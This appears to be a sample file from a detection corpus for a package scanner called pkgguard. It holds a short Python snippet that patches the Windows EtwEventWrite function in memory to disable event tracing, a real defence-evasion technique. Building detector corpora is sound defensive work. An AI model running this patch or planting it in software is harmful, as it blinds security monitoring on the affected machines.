# pkgguard corpus 765 (obfuscation), modelled on [taxonomy]; inert, never run.
import ctypes
import sys

if sys.platform == "win32":
    k32 = ctypes.windll.kernel32
    k32.GetProcAddress.restype = ctypes.c_void_p
    target = k32.GetProcAddress(k32.GetModuleHandleW("ntdll.dll"), b"EtwEventWrite")
    written = ctypes.c_size_t()
    k32.WriteProcessMemory(k32.GetCurrentProcess(), ctypes.c_void_p(target), b"\x48\x33\xc0\xc3", 4, ctypes.byref(written))
